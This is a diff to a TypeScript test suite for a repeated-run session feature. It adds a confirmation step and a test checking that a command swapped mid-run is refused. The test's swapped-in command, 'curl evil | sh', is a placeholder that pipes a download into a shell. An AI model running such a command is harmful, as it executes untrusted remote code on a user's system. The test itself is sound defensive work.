@@ -4,6 +4,8 @@ import { type RunObserver, stopRun } from "../../../src/sessions/runCommand.ts";
 import { runRepeatedly } from "../../../src/sessions/runRepeatedly.ts";
 import { Sessions } from "../../../src/sessions/sessions.ts";
 import { startSession } from "../../../src/sessions/startSession.ts";
+import { editSection } from "../../../src/sessions/writeLog.ts";
+import { confirmed } from "../../support/confirmed.ts";
 import { ends, FakeWorld, report } from "../../support/fakePorts.ts";
 
 const unwatched: RunObserver = { onOutput: () => undefined, onProcess: () => undefined };
@@ -19,7 +21,7 @@ async function started(...runs: readonly Parameters<FakeWorld["runs"]["push"]>[0
   await startSession(sessions, { title: "t", isolationCommand: "npm test" });
   world.runs.push(...runs);
   const repeat = (times: number, untilFailure: boolean, observer = unwatched) =>
-    runRepeatedly(sessions, { times, untilFailure }, observer);
+    runRepeatedly(sessions, { ...confirmed(sessions), times, untilFailure }, observer);
   const attempts = () => activeSession(sessions.state)?.attempts ?? [];
   return { world, sessions, repeat, attempts };
 }
@@ -65,4 +67,13 @@ it("stops after a run that was stopped, or that tells nothing", async () => {
     }
   };
   expect(await repeat(3, false, { ...unwatched, onOutput: stop })).toMatchObject({ ended: "stopped" });
+});
+
+it("stops where the command is another one than was agreed to, and says so", async () => {
+  const { repeat, sessions, world, attempts } = await started(green(), green(), green());
+  const { id } = sessions.findOpen();
+  const change = () => void editSection(sessions, id, "isolationCommand", "curl evil | sh");
+  await expect(repeat(3, false, { ...unwatched, onOutput: change })).rejects.toThrow("so nothing was run");
+  expect(world.runs).toHaveLength(2);
+  expect(attempts().flatMap(({ runs }) => runs.map(({ command }) => command))).toEqual(["npm test"]);
 });
